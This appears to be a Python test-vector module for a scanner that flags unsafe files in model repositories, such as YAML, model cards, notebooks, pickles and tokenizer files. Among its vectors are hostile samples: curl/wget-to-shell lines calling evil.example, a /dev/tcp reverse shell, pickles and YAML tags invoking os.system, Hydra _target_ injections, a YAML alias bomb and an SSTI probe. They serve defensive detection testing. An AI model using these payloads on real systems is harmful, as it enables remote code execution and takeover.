"""Texts, cards, YAML, scripts, notebooks and lists of tokens, and what is wrong with them."""

from __future__ import annotations

import json

from registry.testing.vectors import Vector

_CARD = b"---\nlicense: apache-2.0\nbase_model: acme/base\ntags: [a, b]\n---\n# A model\n"
_PICKLE = b"cos\nsystem\n(S'id'\ntR."
_FURTHER = b"(dp0\nS'a'\np1\ncposix\nsystem\n(S'id'\ntRs."
_NOTEBOOK = {
    "nbformat": 4,
    "nbformat_minor": 5,
    "metadata": {},
    "cells": [{"cell_type": "code", "source": ["1"], "outputs": [], "metadata": {}}],
}


def _of(name: str, path: str, data: bytes | str, rule: str = "", *, fails: bool = True) -> Vector:
    given = data.encode() if isinstance(data, str) else data
    return Vector(name=name, path=path, data=given, rule=rule, fails=fails)


def _notebook(*sources: str) -> str:
    cells: list[dict[str, object]] = [
        {
            "cell_type": "code",
            "metadata": {},
            "outputs": [],
            "execution_count": None,
            "source": source.splitlines(keepends=True),
        }
        for source in sources
    ]
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells})


VECTORS = (
    _of("text", "notes.txt", "Grüße\r\n\ttab\f"),
    _of("empty", "merges.txt", ""),
    _of("labels", "labels.txt", "cat\ndog\nRobin\nperson\n"),
    _of("molecules", "labels.txt", "cell\nDNA\ntRNA\n"),
    _of("metals", "labels.txt", "cobalt\niron\nNb\n"),
    _of("vocabulary", "vocab.txt", "[PAD]\n(\n)\n}\nc\nos\nR\n.\n"),
    _of("license", "LICENSE", "MIT License\n"),
    _of("attributes", ".gitattributes", "*.bin filter=lfs\n"),
    _of("card", "README.md", _CARD),
    _of("card-without-metadata", "README.md", "# A model\n"),
    _of("settings", "a.yaml", "a: [1, 2]\nb: {c: &x d, e: *x}\nf: !!str 1\n"),
    _of("list", "a.yml", "- a\n- b: c\n"),
    _of("script", "modeling.py", "import torch\n"),
    _of("empty-script", "__init__.py", ""),
    _of("shell", "run.sh", "#!/bin/sh\nexit 0\ncurl -O https://a/b.tar | cat\n# nc, sh\n"),
    *(
        _of(f"shell-{name}", "install.sh", f"#!/bin/sh\nset -e\n{line}\n", "CODE-3")
        for name, line in {
            "curl": "curl -fsSL http://evil.example/x | sudo bash -s",
            "wget": "wget -qO- http://evil.example/x|sh",
            "base64": "echo aWQ= | base64 --decode | sh",
            "socket": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "substituted": 'sh -c "$(curl -fsSL http://evil.example/x)"',
        }.items()
    ),
    _of(
        "notebook-downloads",
        "a.ipynb",
        json.dumps(_NOTEBOOK).replace('"1"', '"!curl http://evil.example/x | sh"'),
        "CODE-3",
    ),
    _of("notebook", "a.ipynb", json.dumps(_NOTEBOOK)),
    _of("tiktoken", "a.tiktoken", "IQ== 0\nIg== 1\n"),
    _of("tiktoken-as-model", "tokenizer.model", "IQ== 0\nIg== 1\n"),
    _of("latin-1", "a.txt", b"a" * 5000 + b"\xe9 a", "TEXT-1"),
    _of("cut-character", "a.txt", b"a" * 5000 + b"\xc3", "TEXT-1"),
    _of("escape", "a.txt", b"a" * 5000 + b"\x1b[2J", "TEXT-1"),
    _of("nul", "a.py", b"a" * 5000 + b"\0", "TEXT-1"),
    _of("pickle", "a.txt", _PICKLE, "FILE-1"),
    _of("pickle-after-others", "a.csv", _FURTHER, "FILE-1"),
    _of("pickle-by-inst", "vocab.txt", b"(S'id'\nios\nsystem\n.", "FILE-1"),
    _of("pickle-after-long-text", "a.txt", b"S'%b'\n0" % (b"a" * 5000) + _PICKLE, "TEXT-2"),
    _of("binary", "a.txt", bytes(range(256)), "FILE-1"),
    _of("zip-as-text", "a.txt", b"PK\3\4" + bytes(30), "FILE-1"),
    _of("compiled-script", "a.py", b"\xa7\x0d\x0d\x0a" + bytes(12), "FILE-1"),
    _of("card-tag", "README.md", "---\na: !!python/object/apply:os.system [id]\n---\n", "CARD-1"),
    _of("card-key-twice", "README.md", "---\na: 1\na: 2\n---\n", "CARD-1"),
    _of("large-block", "README.md", "---\na: " + "b" * 257_000 + "\n---\n", "CARD-2", fails=False),
    _of("large-card", "README.md", "a\n" * 600_000, "CARD-2", fails=False),
    _of("no-yaml", "a.yaml", "a: [1\n", "YAML-1"),
    _of("key-twice", "a.yaml", "a: 1\na: 2\n", "YAML-1"),
    _of("key-list", "a.yaml", "? [a]\n: 1\n", "YAML-1"),
    _of("deep-blocks", "a.yaml", "- " * 100 + "a", "YAML-1"),
    _of("deep", "a.yaml", "[" * 5000, "YAML-1"),
    _of("object", "a.yaml", "a: !!python/object/apply:os.system [id]\n", "YAML-2"),
    _of("object-key", "a.yaml", "!!python/name:os.system : 1\n", "YAML-2"),
    _of("own-tag", "a.yaml", "a: !b c\n", "YAML-2"),
    _of(
        "directive",
        "a.yaml",
        "%TAG ! tag:yaml.org,2002:python/\n---\na: !name:os.system ''\n",
        "YAML-2",
    ),
    _of("bomb", "a.yaml", "a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n", "YAML-2"),
    _of("recursive", "a.yaml", "a: &a [*a]\n", "YAML-2"),
    _of("documents", "a.yaml", "a: 1\n---\nb: 2\n", "YAML-3", fails=False),
    _of("large", "a.yaml", "#" * 500_001, "YAML-3", fails=False),
    _of("hydra", "a.yaml", "a:\n- _target_: os.system\n", "CONFIG-4"),
    _of("hydra-by-alias", "a.yaml", "a: &a os.system\nb: {_target_: *a}\n", "CONFIG-4"),
    _of("key-by-alias", "a.yaml", "a: &a _target_\nb: {*a : os.system}\n", "CONFIG-4"),
    _of(
        "hydra-by-merge",
        "a.yaml",
        "a: &a {target: os.system}\nb: {<<: *a, params: {}}\n",
        "CONFIG-4",
    ),
    _of(
        "hydra-by-merged-list",
        "a.yaml",
        "a: &a {target: os.system}\nb: {<<: [*a], params: {}}\n",
        "CONFIG-4",
    ),
    _of("merge", "a.yaml", "a: &a {b: 1}\nc: {<<: *a, d: [2]}\ne: *a\n"),
    _of("mlflow", "MLmodel", "flavors: {python_function: {loader_module: mlflow.sklearn}}\n"),
    _of("mlflow-loader", "MLmodel", "flavors: {x: {loader_module: os}}\n", "CONFIG-4"),
    _of("not-trusted", "a.yaml", "a: {trust_remote_code: no}\nb: {trust_remote_code: off}\n"),
    _of("trusted", "a.yaml", "a: {trust_remote_code: yes}\n", "CONFIG-3"),
    _of("trusted-json", "a.json", '{"trust_remote_code": "no"}', "CONFIG-3"),
    _of("ssti", "a.yaml", "prompt: \"{{ ''.__class__ }}\"\n", "TEMPLATE-3"),
    _of("script-as-text", "vocab.txt", "#!/bin/sh\nid\n", "FOREIGN-3"),
    _of("script-as-card", "README.md", "#! /usr/bin/env python\n", "FOREIGN-3"),
    _of("hashes-and-marks", "vocab.txt", "#!\n##\n#version: 0.2\n"),
    _of("remote-code", "a.yaml", "auto_map: {AutoModel: a/b--c.D}\n", "CONFIG-1"),
    _of("nbformat", "a.ipynb", "{}", "NOTEBOOK-1"),
    _of(
        "cell-that-runs",
        "a.ipynb",
        _notebook("import os", "%time os.system('x')\nos.system('x')"),
        "CODE-2",
    ),
    _of(
        "cell-by-alias",
        "a.ipynb",
        _notebook("from os import system as s", "if 1:\n    !ls\n    s('x')"),
        "CODE-2",
    ),
    _of("cell-by-shell", "a.ipynb", _notebook("get_ipython().system('x')"), "CODE-2"),
    _of(
        "cell-with-a-question",
        "a.ipynb",
        _notebook("import os\nos.system('x')  # really?"),
        "CODE-2",
    ),
    _of(
        "cell-that-is-no-python",
        "a.ipynb",
        _notebook("%matplotlib inline\nx = (1\n% os.system('x'))"),
        "CODE-2",
    ),
    _of("cell-of-text", "a.ipynb", _notebook("%%capture\nexec(text)"), "CODE-2"),
    _of("cell-to-a-shell", "a.ipynb", _notebook("!curl x.example | sh"), "CODE-3"),
    _of(
        "draft-cells",
        "a.ipynb",
        _notebook("def f(", "%%bash\nls", "?help", "!pip install x", "eval('1')"),
    ),
    _of("cells", "a.ipynb", '{"nbformat": 4, "cells": [{"cell_type": "x"}]}', "NOTEBOOK-1"),
    _of("cell-kind", "a.ipynb", '{"nbformat": 4, "cells": [{"cell_type": {}}]}', "NOTEBOOK-1"),
    _of("worksheets", "a.ipynb", '{"nbformat": 3, "worksheets": [1]}', "NOTEBOOK-1"),
    _of("sheets-of-3", "a.ipynb", '{"nbformat": 3, "worksheets": 1}', "NOTEBOOK-1"),
    _of("list-as-sheet", "a.ipynb", '{"nbformat": 3, "worksheets": [[]]}', "NOTEBOOK-1"),
    _of("sheet-of-3", "a.ipynb", '{"nbformat": 3, "worksheets": [{"cells": 1}]}', "NOTEBOOK-1"),
    _of("rank", "a.tiktoken", "IQ== a\n", "TOKENS-1"),
    _of("base64", "a.tiktoken", "I 0\n", "TOKENS-1"),
)
